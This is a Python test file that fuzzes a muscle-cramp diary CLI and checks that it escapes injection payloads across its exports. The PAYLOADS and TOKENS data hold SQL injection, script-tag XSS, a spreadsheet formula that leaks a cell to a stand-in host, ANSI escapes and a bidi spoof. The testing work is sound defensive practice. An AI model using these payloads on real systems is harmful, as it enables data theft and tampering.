"""Hostile and bad input: random values in every option, malformed import files, and notes and
tags built to attack a database, a browser, a spreadsheet or a terminal. Nothing may crash,
nothing bad may be written, and what comes back out is harmless and intact."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf import PdfReader

from spasmlog.cli.common import printable
from spasmlog.interchange.records import csv_text
from tests.conftest import Run, diary_fingerprint
from tests.reliability.helpers import facts

# Values a person, a script or an attacker might type, next to plain random text.
TOKENS = (
    "",
    " ",
    "0",
    "-0",
    "7",
    "10",
    "11",
    "-3",
    "7.5",
    "1e309",
    "nan",
    "inf",
    "-inf",
    "9" * 40,
    "0x10",
    "½",
    "٣",
    "now",
    "yesterday 23:30",
    "2h ago",
    "last night 3am",
    "tomorrow",
    "2026-03-15T12:00:00+01:00",
    "2026-02-30",
    "9999-12-31",
    "0001-01-01",
    "1970-01-01T00:00Z",
    "45s",
    "2m",
    "1m30s",
    "-3m",
    "1.5 min",
    "99999999h",
    "1.5L",
    "500 ml",
    "6 glasses",
    "40 oz",
    "lots",
    "-1L",
    "1e400 ml",
    "run 45m vigorous",
    "run -45m",
    "swim 99999m light",
    "calf",
    "calff",
    "charley horse",
    "left",
    "up",
    "stretch",
    "fever",
    "Lipitor 20mg",
    "statin",
    "potassium",
    "K",
    "mmol/L",
    "mg/dL",
    "3.5-5.1",
    "5.1-3.5",
    "-",
    "--",
    "-h",
    '=HYPERLINK("x")',
    "'; DROP TABLE episodes;--",
    "<script>alert(1)</script>",
    "\x1b[2J",
    "\x00",
    "a\nb",
    "x" * 5000,
)
VALUES = st.one_of(
    st.sampled_from(TOKENS),
    st.text(st.characters(codec="utf-8"), max_size=60),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.floats().map(repr),
)
FLAGS = {
    "log": ("--woke", "--no-woke"),
    "edit": ("--woke", "--no-woke"),
    "checkin": (
        "--sweating",
        "--no-sweating",
        "--vomiting",
        "--no-diarrhea",
        "--fever",
        "--hot-weather",
        "--no-hot-weather",
    ),
}
EPISODE = (
    "--muscle",
    "--side",
    "--at",
    "--duration",
    "--severity",
    "--fluid",
    "--exercise",
    "--relief",
    "--relief-score",
    "--symptom",
    "--note",
    "--med",
)
OPTIONS = {
    "log": EPISODE,
    "edit": EPISODE,
    "checkin": (
        "--date",
        "--fluid",
        "--sleep",
        "--magnesium",
        "--alcohol",
        "--tag",
        "--note",
        "--exercise",
    ),
    "meds add": ("--dose", "--started", "--stopped", "--class"),
    "labs add": ("--on", "--range"),
}
ARGUMENTS = {"edit": 1, "meds add": 1, "labs add": 3}  # positional values each command takes
EXAMPLES = 40


@st.composite
def command_line(draw: st.DrawFn, command: str) -> list[str]:
    args = command.split()
    args += [draw(st.one_of(VALUES, st.just("1"))) for _ in range(ARGUMENTS.get(command, 0))]
    for option in draw(st.lists(st.sampled_from(OPTIONS[command]), max_size=6)):
        args.append(f"{option}={draw(VALUES)}")  # "=": a value may itself start with "-"
    args += draw(st.lists(st.sampled_from(FLAGS.get(command, ("--",))), max_size=2))
    return args


def _fuzz(run: Run, db_path: Path, command: str, data: st.DataObject) -> None:
    args = data.draw(command_line(command))
    before = diary_fingerprint(db_path)
    result = run(*args)
    assert result.exit_code in (0, 2), (args, result.output)
    assert result.exception is None or isinstance(result.exception, SystemExit), args
    assert "Traceback" not in result.output
    if result.exit_code == 2:
        assert diary_fingerprint(db_path) == before, args
        assert result.stderr.strip(), args


@pytest.fixture
def diary_with_entries(run: Run, db_path: Path) -> Path:
    for muscle in ("calf", "foot"):
        assert run("log", "--muscle", muscle).exit_code == 0
    assert run("meds", "add", "Lipitor", "--started", "2026-01-01").exit_code == 0
    return db_path


def _fuzz_test(command: str, examples: int) -> object:
    @settings(
        max_examples=examples,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture],
    )
    @given(data=st.data())
    def fuzz(run: Run, diary_with_entries: Path, data: st.DataObject, record_property: Any) -> None:
        _fuzz(run, diary_with_entries, command, data)
        record_property("inputs", 1)  # figures for the closing note

    return fuzz


test_fuzz_log = _fuzz_test("log", EXAMPLES)
test_fuzz_edit = _fuzz_test("edit", EXAMPLES)
test_fuzz_checkin = _fuzz_test("checkin", EXAMPLES)
test_fuzz_meds_add = _fuzz_test("meds add", EXAMPLES)
test_fuzz_labs_add = _fuzz_test("labs add", EXAMPLES)
test_fuzz_log_long = pytest.mark.slow(_fuzz_test("log", 1500))
test_fuzz_edit_long = pytest.mark.slow(_fuzz_test("edit", 1000))
test_fuzz_checkin_long = pytest.mark.slow(_fuzz_test("checkin", 1000))
test_fuzz_meds_add_long = pytest.mark.slow(_fuzz_test("meds add", 500))
test_fuzz_labs_add_long = pytest.mark.slow(_fuzz_test("labs add", 500))


@pytest.mark.parametrize("command", ["edit", "show", "delete", "restore"])
def test_an_id_too_big_for_sqlite_is_bad_input(
    run: Run, diary_with_entries: Path, command: str
) -> None:
    before = diary_fingerprint(diary_with_entries)
    args = [command, str(2**63)] + (["--severity", "3"] if command == "edit" else [])

    result = run(*args)

    assert result.exit_code == 2 and diary_fingerprint(diary_with_entries) == before


# --- malformed import files -------------------------------------------------------------------

GOOD_ROW = "2026-03-01T03:00:00+01:00,calf,left,{note}\n"
HEADER = "started_at,muscle,side,note\n"
MALFORMED = {
    "latin-1": (HEADER + GOOD_ROW.format(note="café")).encode("latin-1"),
    "utf-16": (HEADER + GOOD_ROW.format(note="x")).encode("utf-16"),
    "no-header": GOOD_ROW.format(note="a").encode() * 3,
    "extra-column": (
        HEADER.strip() + ",mood\n" + GOOD_ROW.strip().format(note="b") + ",grumpy\n"
    ).encode(),
    "extra-cell": (HEADER + GOOD_ROW.strip().format(note="c") + ",surplus\n").encode(),
    "huge-field": (HEADER + GOOD_ROW.format(note="x" * 10_000_000)).encode(),
    "binary": bytes(range(256)) * 64,
    "zip": b"PK\x03\x04" + bytes(200),
    "sqlite": b"SQLite format 3\x00" + bytes(500),
    "bad-row-in-the-middle": (
        HEADER
        + GOOD_ROW.format(note="ok1")
        + "2026-13-45T99:00,calf,left,bad\n"
        + GOOD_ROW.replace("03:00", "04:00").format(note="ok2")
    ).encode(),
}
# Variants a spreadsheet really writes: these import, and import exactly.
TOLERATED = {
    "bom": b"\xef\xbb\xbf" + (HEADER + GOOD_ROW.format(note="bom")).encode(),
    "mixed-line-endings": (
        HEADER.replace("\n", "\r\n")
        + GOOD_ROW.format(note="crlf").replace("\n", "\r\n")
        + GOOD_ROW.replace("03:00", "05:00").format(note="lf")
    ).encode(),
}


@pytest.mark.parametrize("name", MALFORMED)
def test_a_malformed_import_file_is_refused_with_nothing_written(
    run: Run, db_path: Path, tmp_path: Path, name: str
) -> None:
    assert run("log", "--muscle", "foot").exit_code == 0
    source = tmp_path / f"{name}.csv"
    source.write_bytes(MALFORMED[name])
    before = diary_fingerprint(db_path)

    result = run("import", str(source), "--kind", "episodes")

    assert result.exit_code == 2, result.output
    assert result.stderr.startswith("Error: ") and "Traceback" not in result.output
    assert source.name in result.stderr  # says which file, and (below) briefly
    assert len(result.stderr) < 5000  # a 10 MB field is named, not echoed back
    assert diary_fingerprint(db_path) == before


def test_an_unclosed_quote_is_refused_not_merged_into_one_row(
    run: Run, db_path: Path, tmp_path: Path
) -> None:
    source = tmp_path / "quote.csv"
    rows = [GOOD_ROW.replace("03:00", f"0{hour}:00").format(note=f"row{hour}") for hour in range(5)]
    rows[1] = rows[1].replace("row1", '"row1 never closed')
    source.write_text(HEADER + "".join(rows), encoding="utf-8")

    result = run("import", str(source), "--kind", "episodes")

    assert result.exit_code == 2
    assert not db_path.exists() or facts(db_path).episodes == 0


@pytest.mark.parametrize("name", TOLERATED)
def test_spreadsheet_variants_import_exactly(
    run: Run, db_path: Path, tmp_path: Path, name: str
) -> None:
    source = tmp_path / f"{name}.csv"
    source.write_bytes(TOLERATED[name])

    result = run("import", str(source), "--kind", "episodes")

    assert result.exit_code == 0, result.output
    expected = {"bom": ["bom"], "mixed-line-endings": ["crlf", "lf"]}[name]
    assert facts(db_path).notes == expected


# --- injection ----------------------------------------------------------------------------------

PAYLOADS = {
    "sql": "'); DROP TABLE episodes; -- \" OR 1=1",
    "html": '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "formula": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "formula-at": "@SUM(A1:A9)",
    "formula-plus": "+1+1",
    "formula-minus": "-2+3",
    "formula-tab": "\t=1+1",
    "guarded-already": "'=1+1",
    "ansi": "\x1b[2J\x1b[31mred\x1b[0m\x07 bell",
    "bidi": "invoice\u202egnp.exe",
    "markdown": "# heading\n> quote\n- [link](javascript:alert(1)) | pipe |",
    "newlines": "line1\r\nline2\rline3\nline4",
    "long": "x" * 20_000 + " end",
}
TAGS = ("') DROP TABLE checkins --", "<b>bold</b>", "=1+1", "@cmd", "\x1b[31mred")
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f\u202e]")


@pytest.fixture
def injected(run: Run, db_path: Path) -> Path:
    for text in PAYLOADS.values():
        assert run("log", "--muscle", "calf", "--note", text).exit_code == 0
    args = [f"--tag={tag}" for tag in TAGS]
    assert run("checkin", "--fluid", "1L", *args, f"--note={PAYLOADS['html']}").exit_code == 0
    return db_path


def test_the_table_shows_control_characters_instead_of_obeying_them(
    run: Run, injected: Path
) -> None:
    for listing in (run("list"), run("checkins"), *(run("show", str(i)) for i in range(1, 14))):
        assert listing.exit_code == 0
        assert not CONTROL.search(listing.stdout.replace("\n", "")), listing.stdout[:200]
    shown = run("show", "9").stdout
    assert printable(PAYLOADS["ansi"]) in shown and "\\x1b[2J" in shown


def test_json_and_fhir_give_every_note_back_intact(
    run: Run, injected: Path, tmp_path: Path
) -> None:
    listed = json.loads(run("list", "--format", "json").stdout)
    assert sorted(e["note"] for e in listed) == sorted(PAYLOADS.values())
    assert run("export", "json", "--out", str(tmp_path / "d.json")).exit_code == 0
    whole = json.loads((tmp_path / "d.json").read_text())
    assert sorted(e["note"] for e in whole["episodes"]) == sorted(PAYLOADS.values())
    assert whole["checkins"][0]["tags"] == list(TAGS)
    assert run("export", "fhir", "--out", str(tmp_path / "f.json")).exit_code == 0
    bundle = json.loads((tmp_path / "f.json").read_text())
    notes = [
        note["text"] for entry in bundle["entry"] for note in entry["resource"].get("note", [])
    ]
    assert set(PAYLOADS.values()) <= set(notes)


@pytest.mark.parametrize("source", ["list", "export"])
def test_csv_guards_formulas_and_reads_back_exactly(
    run: Run, injected: Path, tmp_path: Path, source: str
) -> None:
    if source == "list":
        text = run("list", "--format", "csv").stdout_bytes.decode("utf-8")  # .stdout folds \r\n
    else:
        assert (
            run("export", "csv", "--what", "episodes", "--out", str(tmp_path / "e.csv")).exit_code
            == 0
        )
        text = (tmp_path / "e.csv").read_bytes().decode("utf-8")  # no newline translation
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    cells = [row["note"] for row in rows]
    assert sorted(csv_text(cell) for cell in cells) == sorted(PAYLOADS.values())
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_checkin_tags_are_guarded_in_csv(run: Run, injected: Path, tmp_path: Path) -> None:
    out = tmp_path / "c.csv"
    assert run("export", "csv", "--what", "checkins", "--out", str(out)).exit_code == 0
    row = next(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    assert not row["tags"].startswith(("=", "+", "-", "@"))
    assert csv_text(row["tags"]).split(";") == list(TAGS)


def test_a_tag_with_the_list_separator_survives_or_is_refused(
    run: Run, db_path: Path, tmp_path: Path
) -> None:
    result = run("checkin", "--fluid", "1L", "--tag", "coffee; tea")
    if result.exit_code == 2:
        return
    out = tmp_path / "c.csv"
    assert run("export", "csv", "--what", "checkins", "--out", str(out)).exit_code == 0
    again = tmp_path / "again" / "diary.db"
    assert run("--db", str(again), "import", str(out), "--kind", "checkins").exit_code == 0
    whole = tmp_path / "w.json"
    assert run("--db", str(again), "export", "json", "--out", str(whole)).exit_code == 0
    assert json.loads(whole.read_text())["checkins"][0]["tags"] == ["coffee; tea"]


def test_html_summary_escapes_every_note(run: Run, injected: Path, tmp_path: Path) -> None:
    out = tmp_path / "summary.html"
    result = run("export", "doctor", "--out", str(out))
    assert result.exit_code == 0, result.output
    page = out.read_text(encoding="utf-8")
    assert "<script" not in page.lower() and "onerror=" not in page.replace("onerror=alert", "")
    assert html.escape('<script>alert("x")</script>', quote=True) in page


def test_markdown_summary_neutralises_markup(run: Run, injected: Path, tmp_path: Path) -> None:
    out = tmp_path / "summary.md"
    assert run("export", "doctor", "--out", str(out)).exit_code == 0
    text = out.read_text(encoding="utf-8")
    assert "<script>" not in text and not re.search(r"(?<!\\)\]\(javascript:", text)
    assert not re.search(r"^# heading", text, re.MULTILINE)
    assert "DROP TABLE episodes" in text
    assert "\x1b" not in text


def test_pdf_summary_holds_the_notes_as_text(run: Run, injected: Path, tmp_path: Path) -> None:
    out = tmp_path / "summary.pdf"
    result = run("export", "doctor", "--out", str(out))
    assert result.exit_code == 0, result.output
    text = " ".join(page.extract_text() for page in PdfReader(out).pages)
    assert "DROP TABLE episodes" in text and 'alert("x")' in text and "HYPERLINK" in text
    assert "\x1b" not in text


def test_the_database_survives_the_sql(run: Run, injected: Path) -> None:
    found = facts(injected)
    assert found.integrity == "ok" and sorted(found.notes) == sorted(PAYLOADS.values())
